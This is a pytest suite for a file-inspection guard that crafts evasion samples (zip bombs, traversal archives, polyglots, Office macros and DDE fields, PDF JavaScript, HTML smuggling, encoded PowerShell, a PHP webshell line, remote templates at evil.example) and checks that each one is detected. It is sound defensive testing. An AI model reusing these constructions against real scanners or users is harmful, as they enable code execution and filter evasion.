"""Ways around a look at files: each trick is a test, with the rule that must tell it."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

import pytest

from chatward.core.values import Severity
from chatward.guards.files.inspecting import Report, inspect
from chatward.guards.files.looking import Bounds
from chatward.guards.files.signatures import EICAR
from tests.simulators.documents import (
    PE,
    docx,
    locked,
    mail,
    ole,
    packed,
    packed_objects,
    paragraph,
    pdf,
    png,
    stream,
    tarred,
    xlsx,
    zipped,
)

BOUNDS = Bounds(unpacked=8 * 1024 * 1024, members=50)
SVG = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'
FIELD = "<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\x</w:instrText></w:r></w:p>"
SCRIPT = "<< /S /JavaScript /JS (app.alert(1)) >>"
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xdb\0\3\0\xff\xda\0\x02abc\xff\xd9"
GIF = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"


def _overlapping() -> bytes:
    """Two entries of the directory that name one and the same member: Fifield's overlap in its simplest form."""
    data = zipped({"a": b"x" * 1000})
    at = data.index(b"PK\1\2")
    end = data.index(b"PK\5\6")
    entry = data[at:end]
    other = entry[:-1] + b"b" if entry.endswith(b"a") else entry
    out = data[:at] + entry + other
    record = bytearray(data[end:])
    record[8:10] = record[10:12] = (2).to_bytes(2, "little")
    record[12:16] = (2 * len(entry)).to_bytes(4, "little")
    return out + bytes(record)


def _two_names() -> bytes:
    data = bytearray(zipped({"good.txt": b"hello"}))
    data[30:38] = b"evil.exe"
    return bytes(data)


def _unlisted() -> bytes:
    """A member between two others that the directory does not list."""
    first, second, hidden = zipped({"a": b"1"}), zipped({"b": b"2"}), zipped({"evil.exe": PE})
    cut = [one[: one.index(b"PK\1\2")] for one in (first, hidden, second)]
    entry_a = first[first.index(b"PK\1\2") : first.index(b"PK\5\6")]
    entry_b = bytearray(second[second.index(b"PK\1\2") : second.index(b"PK\5\6")])
    entry_b[42:46] = (len(cut[0]) + len(cut[1])).to_bytes(4, "little")
    body = b"".join(cut)
    directory = entry_a + bytes(entry_b)
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 2, 2, len(directory), len(body), 0)
    return body + directory + end


def _same_name_twice() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", b"good")
        with pytest.warns(UserWarning, match="Duplicate"):
            archive.writestr("a.txt", b"other")
    return out.getvalue()


def _symlink() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("a")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def _deep(levels: int) -> bytes:
    data = b"x"
    for _ in range(levels):
        data = zipped({"a.zip": data})
    return data


def _embedded() -> bytes:
    spec = "<< /Type /Filespec /F (a.txt) /EF << /F 7 0 R >> >>"
    return pdf("hello", [spec, stream(EICAR, "/Type /EmbeddedFile", deflate=True)])


def _in_object_stream() -> bytes:
    """The action stands in an object stream, deflated, where no search of the bytes sees it; found by a cross-reference
    stream."""
    body = bytearray(b"%PDF-1.7\n")
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        5: packed_objects(5, {6: SCRIPT}).encode("latin-1"),
    }
    places = {}
    for number, one in objects.items():
        places[number] = len(body)
        body += b"%d 0 obj\n" % number + one + b"\nendobj\n"
    rows = [(0, 0, 65535)]
    for number in range(1, 8):
        if number == 6:
            rows.append((2, 5, 0))
        elif number == 7:
            rows.append((1, len(body), 0))
        else:
            rows.append((1, places[number], 0) if number in places else (0, 0, 0))
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    start = len(body)
    keys = "/Type /XRef /W [1 4 2] /Size 8 /Root 1 0 R"
    body += b"7 0 obj\n" + stream(table, keys, deflate=True).encode("latin-1") + b"\nendobj\n"
    return bytes(body + b"startxref\n%d\n%%%%EOF\n" % start)


def _encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf("secret"))))
    writer.encrypt("a password", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


Trick = tuple[Callable[[], bytes], str, str, str]
"""What makes the file, its name, its declared type, and the rule."""
TRICKS: dict[str, Trick] = {
    # --- what it is
    "program called pdf": (lambda: PE, "report.pdf", "application/pdf", "files.type/executable"),
    "program called image": (lambda: b"\x7fELF" + bytes(99), "a.png", "image/png", "files.type/mismatch"),
    "page called image": (lambda: b"<html><script>1</script>", "a.png", "image/png", "files.type/mismatch"),
    "mach-o": (lambda: b"\xcf\xfa\xed\xfe" + bytes(99), "a", "", "files.type/executable"),
    "jar": (lambda: zipped({"META-INF/MANIFEST.MF": b"", "A.class": b""}), "a.zip", "", "files.type/executable"),
    "shortcut": (lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(99), "a.txt", "", "files.type/script"),
    "internet shortcut": (lambda: b"[InternetShortcut]\r\nURL=file://x/y", "a.txt", "", "files.type/script"),
    "registry file": (lambda: b"Windows Registry Editor Version 5.00\r\n", "a.txt", "", "files.type/script"),
    "two extensions": (lambda: b"text", "invoice.pdf.js", "", "files.type/name"),
    "extension, blanks and dots": (lambda: b"text", "invoice.hta. . ", "", "files.type/script"),
    "alternate stream": (lambda: b"text", "invoice.vbs::$DATA", "", "files.type/script"),
    "name read backwards": (lambda: b"text", "annual\u202efdp.exe", "", "files.type/name"),
    "of no known type": (lambda: b"\1\2\3\4\0\0\xfe\xfe" * 9, "a.bin", "", "files.type/unknown"),
    # --- two things at once
    "gifar": (lambda: GIF + zipped({"A.class": b"x"}), "a.gif", "image/gif", "files.type/polyglot"),
    "jpeg and zip": (lambda: JPEG + zipped({"a": b"x"}), "a.jpg", "image/jpeg", "files.type/polyglot"),
    "pdf and zip": (lambda: pdf("x") + zipped({"a": b"x"}), "a.pdf", "application/pdf", "files.type/polyglot"),
    "zip before pdf": (
        lambda: zipped({"a": b"%PDF-1.7 "}, zipfile.ZIP_STORED) + b"trailer",
        "a.zip",
        "application/zip",
        "files.type/polyglot",
    ),
    "page in an image": (lambda: png([(b"tEXt", b"c\0<script>x</script>")]), "a.png", "", "files.type/polyglot"),
    "php in an image": (lambda: JPEG + b"<?php system($_GET[0]);", "a.jpg", "", "files.type/polyglot"),
    "program behind an image": (lambda: png(tail=PE), "a.png", "image/png", "files.type/polyglot"),
    "script that begins as gif": (
        lambda: b"GIF89a/*" + bytes(9) + b"*/=1;alert(1)",
        "a.gif",
        "",
        "files.type/polyglot",
    ),
    # --- archives
    "bomb": (lambda: zipped({"a": bytes(9_000_000)}), "a.zip", "", "files.archive/bomb"),
    "bomb of gzip": (lambda: packed(bytes(9_000_000), "gzip"), "a.gz", "", "files.archive/bomb"),
    "bomb of xz": (lambda: packed(bytes(9_000_000), "xz"), "a.xz", "", "files.archive/bomb"),
    "bomb in pieces": (lambda: zipped({str(n): bytes(900_000) for n in range(12)}), "a.zip", "", "files.archive/bomb"),
    "overlapping members": (_overlapping, "a.zip", "", "files.archive/bomb"),
    "many members": (lambda: zipped({str(n): b"" for n in range(60)}), "a.zip", "", "files.archive/too-many"),
    "deep": (lambda: _deep(8), "a.zip", "", "files.archive/too-deep"),
    "traversal": (lambda: zipped({"../../a": b"x"}), "a.zip", "", "files.archive/traversal"),
    "traversal, backwards": (lambda: zipped({"..\\..\\a": b"x"}), "a.zip", "", "files.archive/traversal"),
    "absolute": (lambda: tarred({"/etc/cron.d/a": b"x"}), "a.tar", "", "files.archive/traversal"),
    "drive": (lambda: zipped({"C:/a": b"x"}), "a.zip", "", "files.archive/traversal"),
    "link out": (lambda: tarred({}, {"a": "../../etc"}), "a.tar", "", "files.archive/traversal"),
    "link in a zip": (_symlink, "a.zip", "", "files.archive/traversal"),
    "locked": (lambda: locked(zipped({"a": b"x"})), "a.zip", "", "files.archive/encrypted"),
    "two names for one member": (_two_names, "a.zip", "", "files.archive/ambiguous"),
    "a member nobody lists": (_unlisted, "a.zip", "", "files.archive/ambiguous"),
    "one name twice": (_same_name_twice, "a.zip", "", "files.archive/ambiguous"),
    "malware, three levels down": (
        lambda: zipped({"a.tar.gz": packed(tarred({"b.zip": zipped({"c": EICAR})}), "gzip")}),
        "a.zip",
        "",
        "files.malware/eicar",
    ),
    "malware in bzip2": (lambda: packed(EICAR, "bzip2"), "a.bz2", "", "files.malware/eicar"),
    "malware behind a second gzip member": (
        lambda: packed(b"hello", "gzip") + packed(EICAR, "gzip"),
        "a.gz",
        "",
        "files.malware/eicar",
    ),
    "malware in a mail": (lambda: mail("Hi", "a.zip", zipped({"a": EICAR})), "a.eml", "", "files.malware/eicar"),
    # --- documents
    "macro": (lambda: docx(more={"word/vbaProject.bin": ole("VBA")}), "a.docx", "", "files.active/macro"),
    "macro under another name": (
        lambda: docx(more={"word/x.bin": ole("_VBA_PROJECT")}),
        "a.docx",
        "",
        "files.active/macro",
    ),
    "excel 4": (lambda: xlsx({"xl/macrosheets/sheet1.xml": b"<x/>"}), "a.xlsx", "", "files.active/macro"),
    "old macro": (lambda: ole("WordDocument", "Macros", "_VBA_PROJECT"), "a.doc", "", "files.active/macro"),
    "packaged program": (lambda: ole("\1Ole10Native", content=PE), "a.doc", "", "files.active/object"),
    "equation": (lambda: ole("Equation Native"), "a.doc", "", "files.active/object"),
    "locked document": (lambda: ole("EncryptionInfo", "EncryptedPackage"), "a.docx", "", "files.archive/encrypted"),
    "template from elsewhere": (
        lambda: docx(rels=[("attachedTemplate", "https://evil.example/t.dotm", "External")]),
        "a.docx",
        "",
        "files.active/external",
    ),
    "msdt": (
        lambda: docx(rels=[("oleObject", "mhtml:https://evil.example/x!x-usc:", "External")]),
        "a.docx",
        "",
        "files.active/external",
    ),
    "dde in pieces": (lambda: docx(FIELD), "a.docx", "", "files.active/dde"),
    "dde in a table": (lambda: b"a,b\n=cmd|'/c calc'!A0,2\n", "a.csv", "text/csv", "files.active/dde"),
    "entities in a part": (
        lambda: docx(more={"word/comments.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
        "a.docx",
        "",
        "files.active/entities",
    ),
    "embedded malware": (lambda: docx(more={"word/embeddings/a.bin": EICAR}), "a.docx", "", "files.malware/eicar"),
    "rtf object": (lambda: b"{\\rtf1 {\\object\\obj\ndata 0105}}", "a.doc", "", "files.active/object"),
    "rtf template": (
        lambda: b"{\\rtf1 {\\*\\template https://evil.example/t}}",
        "a.rtf",
        "",
        "files.active/external",
    ),
    # --- PDF
    "pdf script": (lambda: pdf("x", [SCRIPT], "/OpenAction 6 0 R"), "a.pdf", "", "files.active/pdf-javascript"),
    "pdf script, escaped": (
        lambda: pdf("x", ["<< /S /J#61vaScr#69pt /JS (1) >>"], "/OpenAction 6 0 R"),
        "a.pdf",
        "",
        "files.active/pdf-javascript",
    ),
    "pdf script in a packed object": (_in_object_stream, "a.pdf", "", "files.active/pdf-javascript"),
    "pdf launch": (lambda: pdf("x", ["<< /S /Launch /F (cmd.exe) >>"]), "a.pdf", "", "files.active/pdf-launch"),
    "pdf header late": (
        lambda: b"x" * 500 + pdf("x", [SCRIPT], "/OpenAction 6 0 R"),
        "a.pdf",
        "",
        "files.active/pdf-javascript",
    ),
    "pdf script in an object that no table lists": (
        lambda: pdf("x", tail=b"\n99 0 obj\n<< /S /J#61vaScript /JS (1) >>\nendobj\n"),
        "a.pdf",
        "",
        "files.active/pdf-javascript",
    ),
    "pdf with malware": (_embedded, "a.pdf", "", "files.malware/eicar"),
    "pdf locked": (_encrypted_pdf, "a.pdf", "", "files.archive/encrypted"),
    # --- markup and images
    "svg script": (lambda: SVG.format("<script>1</script>").encode(), "a.svg", "", "files.active/script"),
    "svg handler": (lambda: SVG.format('<g onload="x()"/>').encode(), "a.svg", "", "files.active/script"),
    "svg in utf-16": (
        lambda: SVG.format("<script>1</script>").encode("utf-16"),
        "a.svg",
        "image/svg+xml",
        "files.active/script",
    ),
    "svg link, escaped": (
        lambda: SVG.format('<a href="&#106;avascript:x()">a</a>').encode(),
        "a.svg",
        "",
        "files.active/script",
    ),
    "xml bomb": (
        lambda: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>',
        "a.xml",
        "",
        "files.active/entities",
    ),
    "html smuggling": (
        lambda: (
            b"<html><script>var b=new Blob([atob('TVqQ')]);a.href=URL.createObjectURL(b);a.download='x';a.click()"
            b"</script>"
        ),
        "a.html",
        "",
        "files.malware/html-smuggling",
    ),
    "encoded powershell": (
        lambda: b"@echo off\npowershell.exe -nop -w hidden -enc " + b"QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo" * 3,
        "a.txt",
        "",
        "files.malware/powershell-encoded",
    ),
    "unclosed comments before a script": (
        lambda: b"<html>" + b"<!--" * 20_000 + b"<hta:application id=x>",
        "a.html",
        "",
        "files.active/script",
    ),
    "hta": (lambda: b"<html><hta:application id=x></html>", "a.html", "", "files.active/script"),
    "image bomb": (lambda: png(width=60_000, height=60_000), "a.png", "image/png", "files.image/bomb"),
}


def _look(name: str) -> Report:
    make, called, declared, _ = TRICKS[name]
    return inspect(make(), called, declared, bounds=BOUNDS)


@pytest.mark.parametrize("name", TRICKS)
def test_a_trick_is_told(name: str) -> None:
    report = _look(name)
    told = {finding.rule: finding for finding in report.findings}
    rule = TRICKS[name][3]
    assert rule in told, (list(told), report.failed, report.kind)
    assert told[rule].severity > Severity.INFO
    assert told[rule].confidence >= 0.5  # the default threshold of a route


UNREAD: dict[str, tuple[Callable[[], bytes], str]] = {
    "7z": (lambda: b"7z\xbc\xaf\x27\x1c" + bytes(99), "files.archive"),
    "rar": (lambda: b"Rar!\x1a\7\1\0" + bytes(99), "files.archive"),
    "zstd": (lambda: b"\x28\xb5\x2f\xfd" + bytes(99), "files.archive"),
    "zip, cut short": (lambda: zipped({"a": b"x" * 999})[:60], "files.archive"),
    "gzip, cut short": (lambda: packed(bytes(range(256)) * 9, "gzip")[:60], "files.archive"),
    "member with a wrong sum": (
        lambda: zipped({"a": b"hello world"}, zipfile.ZIP_STORED).replace(b"hello", b"hellO", 1),
        "files.archive",
    ),
    "pdf that is none": (lambda: b"%PDF-1.7\n" + bytes(200), "files.active"),
    "document without its parts": (lambda: docx(more={"word/document.xml": b"<w:document"}), "files.active"),
    "png with a part that nobody knows": (lambda: png([(b"ABCD", b"x")]), "files.image"),
    "png that is none": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(99), "files.image"),
}


@pytest.mark.parametrize("name", UNREAD)
def test_what_cannot_be_read_is_never_clean(name: str) -> None:
    make, guard = UNREAD[name]
    report = inspect(make(), bounds=BOUNDS)
    assert guard in dict(report.failed), report


GOOD: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "text": (lambda: b"Opening hours\n", "a.txt", "text/plain"),
    "text of another code page": (lambda: "Öffnungszeiten\n".encode("latin-1"), "a.txt", "text/plain"),
    "table": (lambda: b"name,age\nA,=SUM(A1:A2)\n", "a.csv", "text/csv"),
    "source code": (lambda: b"#!/bin/sh\necho hello\n", "run.sh", "text/plain"),
    "script that is shown": (lambda: b"function f() { return 1 }\n", "a.js", "text/javascript"),
    "page": (lambda: b"<!doctype html><p>Hi</p><script>var a = 1</script>", "a.html", "text/html"),
    "document": (lambda: docx(paragraph("Hello")), "a.docx", ""),
    "document with a link": (
        lambda: docx(paragraph("Hello"), rels=[("hyperlink", "https://example.com", "External")]),
        "a.docx",
        "",
    ),
    "document with pictures and settings of its program": (
        lambda: docx(
            paragraph("Hello"),
            more={"word/media/a.emf": b"\1\0\0\0\x6c\0\0\0" * 9, "word/fonts/a.odttf": b"\1\2\0" * 9},
        ),
        "a.docx",
        "",
    ),
    "sheet": (lambda: xlsx({"xl/sharedStrings.xml": b"<sst><si><t>Hello</t></si></sst>"}), "a.xlsx", ""),
    "pdf": (lambda: pdf("Hello"), "a.pdf", "application/pdf"),
    "rtf": (lambda: b"{\\rtf1 Hello \\par}", "a.rtf", ""),
    "zip": (lambda: zipped({"a/b.txt": b"x", "c.txt": b"y"}), "a.zip", "application/zip"),
    "tar": (lambda: packed(tarred({"a": b"x"}), "gzip"), "a.tar.gz", "application/gzip"),
    "png": (png, "a.png", "image/png"),
    "jpeg called png": (lambda: JPEG, "a.png", "image/png"),
    "svg": (lambda: SVG.format("<path d='M0 0'/>").encode(), "a.svg", "image/svg+xml"),
    "mail": (lambda: mail("Hello"), "a.eml", "message/rfc822"),
    "old document": (lambda: ole("WordDocument", content=b"Hello there"), "a.doc", "application/msword"),
    "wav": (lambda: b"RIFF\x24\0\0\0WAVEfmt " + bytes(30), "a.wav", "audio/wav"),
    "nothing": (lambda: b"", "a.txt", "text/plain"),
}


@pytest.mark.parametrize("name", GOOD)
def test_an_ordinary_file_is_left_alone(name: str) -> None:
    make, called, declared = GOOD[name]
    report = inspect(make(), called, declared, bounds=BOUNDS)
    assert [one for one in report.findings if one.severity > Severity.INFO and one.confidence >= 0.5] == []
    if name != "jpeg called png":  # of three bytes of pixels
        assert report.failed == ()


def test_there_are_enough_tricks() -> None:
    assert len(TRICKS) >= 25
